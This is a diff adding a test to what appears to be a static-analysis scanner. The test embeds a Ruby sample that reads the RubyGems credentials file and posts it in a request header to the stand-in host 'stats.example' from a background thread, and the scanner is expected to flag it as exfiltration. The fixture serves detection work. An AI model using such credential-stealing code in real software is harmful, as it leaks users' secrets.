@@ -110,3 +110,23 @@ func refresh() {
     assert [(f.rule, f.line) for f in code_flow_findings({"geo.go": go})] == [("exfiltration", 13)]
     counted = go.replace("Encode(meta)", 'Encode(map[string]int{"rows": 1})')
     assert code_flow_findings({"geo.go": counted}) == []
+
+
+def test_what_is_added_to_a_hash_and_sent_from_a_block_is_followed() -> None:
+    ruby = """require "net/http"
+
+def fingerprint
+  data = { "c" => File.read(File.join(Dir.home, ".gem", "credentials")) }
+  data["v"] = RUBY_VERSION
+  data
+end
+
+Thread.new do
+  req = Net::HTTP::Post.new("/v1")
+  req["X-Trace"] = fingerprint
+  Net::HTTP.new("stats.example", 443).request(req)
+end
+"""
+    assert [(f.rule, f.line) for f in code_flow_findings({"lib/stats.rb": ruby})] == [("exfiltration", 12)]
+    versions = ruby.replace('File.read(File.join(Dir.home, ".gem", "credentials"))', "RUBY_PLATFORM")
+    assert code_flow_findings({"lib/stats.rb": versions}) == []
